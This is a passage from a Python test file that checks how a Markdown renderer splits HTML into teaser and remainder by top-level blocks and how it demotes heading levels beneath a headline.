    assert lead_elements.balanced
    assert Elements(rest).balanced
    if rest:
        assert lead_elements.top_level_blocks == blocks


def test_split_teaser_splits_after_n_top_level_blocks():
    html = render("One.\n\nTwo.\n\nThree.")
    assert split_teaser(html, 2) == ("<p>One.</p>\n<p>Two.</p>", "\n<p>Three.</p>")


def test_split_teaser_with_fewer_blocks_gives_the_whole_and_nothing():
    html = render("One.\n\nTwo.")
    assert split_teaser(html, 2) == (html, "")
    assert split_teaser(html, 5) == (html, "")


def test_split_teaser_counts_a_blockquote_of_three_paragraphs_as_one_block():
    html = render("> One.\n>\n> Two.\n>\n> Three.\n\nAfter.\n\nLast.")
    lead, rest = split_teaser(html, 2)
    assert lead.endswith("<p>After.</p>")
    assert lead.count("<p>") == 4
    assert rest == "\n<p>Last.</p>"


def test_split_teaser_counts_a_nested_list_as_one_block():
    html = render("- a\n    - a1\n    - a2\n- b\n\nAfter.\n\nLast.")
    lead, rest = split_teaser(html, 1)
    assert lead.startswith("<ul>") and lead.endswith("</ul>")
    assert "<p>After.</p>" in rest


def test_split_teaser_counts_a_horizontal_rule_as_a_block():
    html = render("One.\n\n---\n\nTwo.")
    lead, rest = split_teaser(html, 2)
    assert lead == "<p>One.</p>\n<hr>"
    assert rest == "\n<p>Two.</p>"


def test_split_teaser_of_empty_html():
    assert split_teaser("", 2) == ("", "")


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("## Section\n\n### Part\n", ["h2", "h3"]),
        ("# Section\n\n## Part\n", ["h2", "h3"]),
        ("### Section\n\n#### Part\n\n### Next\n", ["h2", "h3", "h2"]),
        ("##### Deep\n\n###### Deeper\n", ["h2", "h3"]),
        ("# One\n\n###### Six\n", ["h2", "h6"]),
    ],
)
def test_a_body_s_highest_heading_is_an_h2_under_the_headline(text, levels):
    assert re.findall(r"<(h\d)>", render(text)) == levels
